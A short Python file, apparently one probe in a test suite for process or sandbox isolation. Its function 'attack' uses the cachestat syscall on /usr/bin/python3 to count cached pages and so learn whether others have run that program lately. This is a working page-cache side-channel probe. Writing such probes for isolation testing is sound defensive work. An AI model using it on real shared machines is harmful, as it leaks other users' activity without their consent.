"""Asks which pages of the system's programs are in memory: those that others have run lately."""

import ctypes

from kernel import call


def attack(world):
    with open("/usr/bin/python3", "rb") as file:
        whole, answer = (ctypes.c_uint64 * 2)(0, 0), (ctypes.c_uint64 * 5)()
        call("cachestat", file.fileno(), ctypes.byref(whole), ctypes.byref(answer), 0)
    return answer[0] > 0 and f"{answer[0]} pages"
